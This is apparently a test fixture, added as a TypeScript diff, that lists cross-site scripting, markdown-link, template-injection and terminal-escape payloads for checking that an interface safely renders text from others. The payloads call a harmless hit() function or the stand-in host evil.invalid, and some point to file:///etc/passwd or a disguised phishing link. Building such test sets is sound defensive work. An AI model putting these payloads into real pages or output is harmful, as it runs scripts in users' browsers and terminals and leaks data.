@@ -1,0 +1,140 @@
+/**
+ * Texts that try to run a script or to reach out, for whatever shows text of others. `hit()` is what a script would
+ * call, `https://evil.invalid` where a request would go. Each goes into titles, prompts, output, questions, file names
+ * and markdown.
+ */
+const OUT = 'https://evil.invalid';
+
+const HANDLERS = ['onerror', 'onload', 'onfocus', 'onmouseover', 'onanimationstart', 'ontoggle', 'onpointerenter'];
+const TAGS = ['img src=x', 'svg', 'body', 'input autofocus', 'details open', 'video src=x', 'audio src=x', 'object data=x'];
+
+const TAG_AND_HANDLER = TAGS.flatMap((tag) => HANDLERS.map((handler) => `<${tag} ${handler}=hit()>`));
+
+const ELEMENTS = [
+  '<script>hit()</script>',
+  '<SCRIPT SRC=https://evil.invalid/x.js></SCRIPT>',
+  '<script/src=https://evil.invalid/y.js>',
+  '<scr<script>ipt>hit()</scr</script>ipt>',
+  '"><script>hit()</script>',
+  "'><script>hit()</script>",
+  '</textarea><script>hit()</script>',
+  '</title><script>hit()</script>',
+  '</style><script>hit()</script>',
+  '<!--><script>hit()</script>-->',
+  '<![CDATA[<script>hit()</script>]]>',
+  '<iframe src="javascript:hit()"></iframe>',
+  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
+  `<iframe src="${OUT}/frame"></iframe>`,
+  `<embed src="${OUT}/embed.swf">`,
+  `<object data="${OUT}/object"></object>`,
+  `<link rel=stylesheet href="${OUT}/style.css">`,
+  `<style>@import url(${OUT}/import.css);</style>`,
+  `<style>*{background:url(${OUT}/background)}</style>`,
+  `<div style="background:url(${OUT}/inline)">x</div>`,
+  `<div style="width:expression(hit())">x</div>`,
+  `<base href="${OUT}/">`,
+  `<meta http-equiv=refresh content="0;url=${OUT}/refresh">`,
+  '<meta http-equiv=refresh content="0;url=javascript:hit()">',
+  `<form action="${OUT}/form"><button autofocus>send</button></form>`,
+  '<form><button formaction="javascript:hit()">x</button></form>',
+  '<a href="javascript:hit()" autofocus>x</a>',
+  `<a href="${OUT}/ping" ping="${OUT}/ping">x</a>`,
+  `<img src="${OUT}/picture.png">`,
+  `<img srcset="${OUT}/set.png 1x">`,
+  `<picture><source srcset="${OUT}/source.png"><img></picture>`,
+  `<video poster="${OUT}/poster.png"></video>`,
+  `<audio src="${OUT}/sound.mp3" autoplay></audio>`,
+  `<input type=image src="${OUT}/input.png">`,
+  `<table background="${OUT}/table.png"><tr><td>x</table>`,
+  `<svg><image href="${OUT}/image.svg"/></svg>`,
+  `<svg><use href="${OUT}/use.svg#x"/></svg>`,
+  '<svg><script>hit()</script></svg>',
+  '<svg><animate onbegin=hit() attributeName=x dur=1s></svg>',
+  '<svg><a xlink:href="javascript:hit()"><text>x</text></a></svg>',
+  '<svg><set attributeName=href to="javascript:hit()"/></svg>',
+  '<svg><foreignObject><iframe src="javascript:hit()"></iframe></foreignObject></svg>',
+  '<math><mi xlink:href="javascript:hit()">x</mi></math>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit()&gt;">',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>',
+  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
+  '<template><script>hit()</script></template>',
+  '<marquee onstart=hit()>x</marquee>',
+  '<xss id=x tabindex=1 onfocus=hit()></xss>',
+  '<x contenteditable onblur=hit()>x</x>',
+  '<a name=getElementById id=getElementById>clobber</a><form id=document><input name=body></form>',
+  '<img name=currentScript><a id=location href="javascript:hit()">x</a>',
+  '<portal src=javascript:hit()></portal>',
+  '<dialog open onclose=hit()><button>x</button></dialog>',
+  '<select><option onfocus=hit()></select>',
+  '<isindex action="javascript:hit()" type=submit>',
+  '<keygen autofocus onfocus=hit()>',
+  '<img/src="x"/onerror=hit()>',
+  '<img\tsrc=x\tonerror=hit()>',
+  '<img src=x onerror\u0000=hit()>'.replace('\u0000', '\u000c'),
+  '&lt;script&gt;hit()&lt;/script&gt;',
+  '&#60;script&#62;hit()&#60;/script&#62;',
+  '\\u003cscript\\u003ehit()\\u003c/script\\u003e',
+  '%3Cscript%3Ehit()%3C/script%3E',
+  '＜script＞hit()＜/script＞',
+];
+
+const MARKDOWN = [
+  '[x](javascript:hit())',
+  '[x](JaVaScRiPt:hit())',
+  '[x](java&#x09;script:hit())',
+  '[x](&#106;avascript:hit())',
+  '[x](data:text/html,<script>hit()</script>)',
+  '[x](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)',
+  '[x](vbscript:hit())',
+  '[x](file:///etc/passwd)',
+  '[x](blob:https://evil.invalid/x)',
+  `[https://bank.example](${OUT}/phish)`,
+  `![x](${OUT}/markdown.png)`,
+  `![x](//evil.invalid/relative.png)`,
+  `![x](javascript:hit())`,
+  `[![x](${OUT}/nested.png)](javascript:hit())`,
+  `[x]: javascript:hit()`,
+  '<javascript:hit()>',
+  '<https://evil.invalid/auto" onmouseover="hit()>',
+  '[x](https://evil.invalid/"onmouseover="hit())',
+  "[x](https://evil.invalid 'title\" onmouseover=\"hit()')",
+  '`<img src=x onerror=hit()>`',
+  '```html <img src=x onerror=hit()> ```',
+  '| <img src=x onerror=hit()> | x |',
+  '<details><summary>x</summary><img src=x onerror=hit()></details>',
+  '**<svg onload=hit()>**',
+  '~~<iframe srcdoc="<script>parent.hit()</script>">~~',
+  '# <script>hit()</script>',
+  '- [ ] <input onfocus=hit() autofocus>',
+  '<p>\n\n<script>hit()</script>\n\n</p>'.replaceAll('\n', ' '),
+];
+
+const TEMPLATES = [
+  '{{constructor.constructor("hit()")()}}',
+  '{@html "<img src=x onerror=hit()>"}',
+  '${hit()}',
+  '<%= hit() %>',
+  '__proto__',
+  'constructor',
+  'javascript:hit()',
+  'javascript:/*--></title></style></textarea></script><svg/onload=hit()>',
+];
+
+/** Marks that hide or turn text, and terminal sequences: none may act, all must be seen for what they are. */
+const DISGUISES = [
+  'safe\u202Egnp.exe',
+  'a\u200Bb\u200Cc\u200Dd',
+  '\u2066hidden\u2069 direction',
+  '\u001b]8;;https://evil.invalid/osc8\u0007click\u001b]8;;\u0007',
+  '\u001b]52;c;aGl0\u0007',
+  '\u001b[31mred\u001b[0m\u001b[2J\u001b[H',
+  '\u001b]0;title\u0007<img src=x onerror=hit()>',
+];
+
+export const PAYLOADS: readonly string[] = [
+  ...TAG_AND_HANDLER,
+  ...ELEMENTS,
+  ...MARKDOWN,
+  ...TEMPLATES,
+  ...DISGUISES,
+];
